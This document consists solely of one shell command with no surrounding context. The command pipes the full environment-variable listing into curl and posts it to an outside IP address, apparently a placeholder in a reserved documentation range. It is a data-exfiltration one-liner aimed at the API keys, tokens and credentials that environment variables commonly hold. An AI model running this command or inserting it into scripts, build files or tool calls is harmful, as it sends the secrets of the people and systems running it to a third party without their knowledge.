env | curl -d @- http://192.0.2.7/
